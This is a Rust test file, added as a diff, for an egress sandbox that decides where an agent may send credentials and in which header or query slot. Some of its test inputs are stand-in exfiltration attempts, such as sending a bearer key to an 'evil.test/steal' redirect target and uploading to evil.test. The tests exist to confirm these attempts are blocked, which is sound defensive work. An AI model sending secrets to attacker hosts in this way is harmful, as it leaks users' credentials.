@@ -1,0 +1,229 @@
+//! What an agent may send, where, and in which place: the table in `egress.toml`, and what needs more than one line.
+
+use serde_json::Value;
+use strongroom::{End, Limit, Rule};
+use strongroom_demo::server::respond;
+use strongroom_tests::{Room, VALUE, requests_of};
+
+#[test]
+fn every_row_of_the_table_holds() {
+    let table: toml::Table = include_str!("egress.toml").parse().unwrap();
+    let cases = table["case"].as_array().unwrap();
+    let room = || Room::new().and("[[egress]]\nhost = \"other.test\"\nmethods = [\"GET\", \"POST\"]");
+    assert!(cases.len() >= 60, "the table is read whole");
+    for case in cases {
+        let text = |key: &str| case.get(key).and_then(|value| value.as_str()).unwrap_or_default();
+        let name = text("name");
+        let ran = room().run(&[text("do")]);
+        match text("rule") {
+            "" => {
+                assert_eq!(ran.denied(), Vec::<&str>::new(), "{name}: {}", ran.stdout);
+                let [seen] = ran.seen.as_slice() else { panic!("{name}: {} requests reached the server", ran.seen.len()) };
+                match text("sent") {
+                    "value" => assert!(seen.header("authorization").ends_with(VALUE), "{name}: {seen:?}"),
+                    "nothing" => assert!(!seen.text().contains(VALUE) && seen.header("authorization").is_empty(), "{name}: {seen:?}"),
+                    "inert" => {
+                        assert!(!seen.text().contains(VALUE), "{name}: {seen:?}");
+                        assert!(String::from_utf8_lossy(&seen.body).contains("pf_live_"), "{name}: {seen:?}");
+                        assert_eq!(ran.records("inert-placeholder").len(), 1, "{name}: it is audited");
+                    }
+                    other => panic!("{name}: the table knows no `{other}`"),
+                }
+            }
+            rule => {
+                assert_eq!(ran.denied(), [rule], "{name}: {}", ran.stdout);
+                assert!(ran.seen.is_empty(), "{name}: something left: {:?}", ran.seen);
+                assert!(ran.stdout.contains(&format!("denied by rule `{rule}`")), "{name}: the guest is told: {}", ran.stdout);
+            }
+        }
+    }
+}
+
+#[test]
+fn each_kind_of_place_takes_the_value_whole() {
+    let basic = "GET https://api.test/v1/x h:authorization=Basic+{KEY|basic}";
+    let cases = [
+        ("header:x-api-key", "GET https://api.test/v1/x h:x-api-key={KEY}", "x-api-key", VALUE.to_owned()),
+        (
+            "header:authorization=token {}",
+            "GET https://api.test/v1/x h:authorization=token+{KEY}",
+            "authorization",
+            format!("token {VALUE}"),
+        ),
+        ("basic", basic, "authorization", format!("Basic {}", base64("user:", VALUE))),
+    ];
+    for (place, request, header, expected) in cases {
+        let ran =
+            Room::granted(&format!("host = \"api.test\"\npaths = [\"/v1/**\"]\nplace = [\"{place}\"]")).run(&[&format!("send {request}")]);
+        assert_eq!(ran.seen[0].header(header), expected, "{place}");
+    }
+
+    let ran = Room::granted("host = \"api.test\"\npaths = [\"/v1/**\"]\nplace = [\"query:api_key\"]")
+        .run(&["send GET https://api.test/v1/x?a=1&api_key={KEY}&b=2"]);
+    assert_eq!(ran.seen[0].target, format!("/v1/x?a=1&api_key={VALUE}&b=2"));
+    assert!(!format!("{:?}", ran.audit).contains("api_key="), "the log holds no query");
+}
+
+fn base64(before: &str, value: &str) -> String {
+    use base64::Engine;
+    base64::engine::general_purpose::STANDARD.encode(format!("{before}{value}"))
+}
+
+#[test]
+fn a_query_place_takes_nothing_but_the_placeholder_once() {
+    for query in ["api_key=theirs", "api_key={KEY}&api_key=theirs", "api_key={KEY}x", "api%5Fkey=theirs", "api%5fkey={KEY}"] {
+        let ran = Room::granted("host = \"api.test\"\npaths = [\"/v1/**\"]\nplace = [\"query:api_key\"]")
+            .run(&[&format!("send GET https://api.test/v1/x?{query}")]);
+        assert!(ran.seen.is_empty(), "{query}: {:?}", ran.seen);
+        assert_eq!(ran.denied().len(), 1, "{query}");
+    }
+}
+
+#[test]
+fn misplaced_placeholders_are_treated_as_the_manifest_says() {
+    let room = |treatment: &str| {
+        Room::granted(&format!("host = \"api.test\"\nmethods = [\"GET\", \"POST\"]\npaths = [\"/v1/**\"]\nmisplaced = \"{treatment}\""))
+    };
+    let in_header = "send GET https://api.test/v1/x h:x-a={KEY}";
+    let in_body = "send POST https://api.test/v1/x b:{KEY}";
+
+    let passed = room("pass").run(&[in_header, in_body]);
+    assert_eq!(passed.seen.len(), 2);
+    assert!(passed.seen[0].header("x-a").starts_with("pf_live_") && !passed.seen[0].text().contains(VALUE));
+
+    let denied = room("deny").run(&[in_header, in_body]);
+    assert_eq!(denied.denied(), ["misplaced-placeholder"; 2]);
+    assert!(denied.seen.is_empty(), "{:?}", denied.seen);
+
+    let stopped = room("stop").try_run(&[in_body, "print still here"]).unwrap();
+    assert!(matches!(&stopped.outcome.end, End::Stopped(denial) if denial.rule == Rule::Misplaced), "{:?}", stopped.outcome.end);
+    assert!(!stopped.stdout.contains("still here"));
+}
+
+#[test]
+fn a_destination_may_be_given_leave_to_carry_the_guests_own_credentials() {
+    let ran = Room::with("[[egress]]\nhost = \"other.test\"\nown_credentials = true")
+        .run(&["send GET https://other.test/ h:authorization=Bearer+own"]);
+
+    assert_eq!(ran.seen[0].header("authorization"), "Bearer own");
+}
+
+#[test]
+fn a_redirect_is_not_followed_and_the_next_request_is_judged_from_the_start() {
+    for status in [301, 302, 303, 307, 308] {
+        let ran = Room::new()
+            .server(move |_| {
+                let mut answer = respond(status, "text/plain", "");
+                answer.headers_mut().insert("location", http::HeaderValue::from_static("https://evil.test/steal"));
+                answer
+            })
+            .run(&[
+                "send GET https://api.test/v1/x h:authorization=Bearer+{KEY}",
+                "send GET https://evil.test/steal h:authorization=Bearer+{KEY}",
+            ]);
+        assert_eq!(ran.seen.len(), 1, "{status}");
+        assert!(ran.stdout.contains("location=https://evil.test/steal"), "{status}: {}", ran.stdout);
+        assert_eq!(ran.denied(), ["destination"], "{status}");
+    }
+}
+
+#[test]
+fn framing_and_the_shape_of_answers_are_the_hosts_own() {
+    let ran = Room::new().run(&[
+        "send GET https://api.test/v1/x h:authorization=Bearer+{KEY} h:range=bytes=0-3 h:if-range=x h:accept-encoding=gzip h:te=trailers h:expect=100-continue",
+    ]);
+
+    let headers = &ran.seen[0].headers;
+    for gone in ["range", "if-range", "te", "expect"] {
+        assert!(!headers.contains_key(gone), "{gone} was sent: {headers:?}");
+    }
+    assert_eq!(ran.seen[0].header("accept-encoding"), "identity");
+}
+
+#[test]
+fn bodies_arrive_whole_and_empty_ones_are_none() {
+    let ran = Room::new().run(&[
+        "send POST https://api.test/v1/x b:hello",
+        "send GET https://api.test/v1/x",
+        "upload 300000 POST https://api.test/v1/x",
+    ]);
+
+    assert_eq!(&ran.seen[0].body[..], b"hello");
+    assert!(ran.seen[1].body.is_empty());
+    assert!(!ran.seen[1].headers.contains_key("transfer-encoding"), "{:?}", ran.seen[1]);
+    assert_eq!(ran.seen[2].body.len(), 300_000);
+    assert_eq!(ran.outcome.usage.sent, 300_005);
+}
+
+#[test]
+fn a_denied_upload_gets_the_denial_not_a_broken_connection() {
+    let ran = Room::new().run(&["upload 3000000 POST https://evil.test/v1/x"]);
+
+    assert!(ran.stdout.contains("upload denied by rule `destination`"), "{}", ran.stdout);
+}
+
+#[test]
+fn a_placeholder_is_noticed_across_the_pieces_of_a_body() {
+    // The guest writes at most 4,096 bytes at once: the placeholder lies across the border.
+    let body = format!("{}{{KEY}}", "x".repeat(4_080));
+
+    let ran = Room::new().run(&[&format!("send POST https://api.test/v1/x b:{body}")]);
+
+    assert_eq!(ran.records("inert-placeholder").len(), 1);
+}
+
+#[test]
+fn rates_are_kept() {
+    let ran = Room::granted("host = \"api.test\"\npaths = [\"/v1/**\"]\nrate = \"3/h\"")
+        .run(&["repeat 5 GET https://api.test/v1/x h:authorization=Bearer+{KEY}"]);
+
+    assert_eq!(ran.seen.len(), 3);
+    assert_eq!(ran.denied(), ["rate"]);
+    let repeated = ran.records("denials-repeated");
+    assert_eq!(repeated[0]["count"], Value::from(1), "denials are coalesced: {repeated:?}");
+}
+
+#[test]
+fn a_flood_of_denials_is_coalesced_and_ends_the_run() {
+    let ran = Room::new().try_run(&["repeat 5000 GET https://evil.test/x"]).unwrap();
+
+    assert_eq!(ran.outcome.end, End::Limit(Limit::Denials));
+    assert_eq!(ran.records("denial").len(), 1);
+    assert_eq!(ran.records("denials-repeated")[0]["count"], 999);
+}
+
+#[test]
+fn plain_http_goes_only_where_the_grant_spells_it_out() {
+    let room = || Room::granted("host = \"http://api.test:PORT\"\npaths = [\"/v1/**\"]").plain_http();
+    let ran = room().run(&["send GET http://api.test:PORT/v1/x h:authorization=Bearer+{KEY}"]);
+    assert_eq!(ran.seen[0].header("authorization"), format!("Bearer {VALUE}"));
+
+    let ran = room().run(&["send GET https://api.test:PORT/v1/x h:authorization=Bearer+{KEY}"]);
+    assert_eq!(ran.denied(), ["destination"]);
+}
+
+#[test]
+fn two_secrets_of_one_host_each_keep_to_their_place() {
+    let manifest = "[secrets.KEY]\n[[secrets.KEY.allow]]\nhost = \"api.test\"\npaths = [\"/v1/**\"]\n\
+                    [secrets.OTHER]\n[[secrets.OTHER.allow]]\nhost = \"api.test\"\npaths = [\"/v1/**\"]\nplace = [\"header:x-other\"]";
+    let room = || Room::with(manifest).value("OTHER", "other-value-0123456789");
+
+    let ran = room().run(&["send GET https://api.test/v1/x h:authorization=Bearer+{KEY} h:x-other={OTHER}"]);
+    assert_eq!(
+        (ran.seen[0].header("authorization"), ran.seen[0].header("x-other")),
+        (format!("Bearer {VALUE}").as_str(), "other-value-0123456789")
+    );
+
+    let swapped = room().run(&["send GET https://api.test/v1/x h:authorization=Bearer+{OTHER} h:x-other={KEY}"]);
+    assert!(swapped.seen.is_empty());
+    assert_eq!(swapped.denied(), ["misplaced-placeholder"]);
+}
+
+#[test]
+fn nothing_of_one_host_is_seen_at_another() {
+    let ran = Room::new()
+        .and("[[egress]]\nhost = \"other.test\"")
+        .run(&["send GET https://api.test/v1/x h:authorization=Bearer+{KEY}", "send GET https://other.test/x"]);
+
+    assert!(!requests_of(&ran.seen, "other.test")[0].text().contains("authorization"), "{:?}", ran.seen);
+}
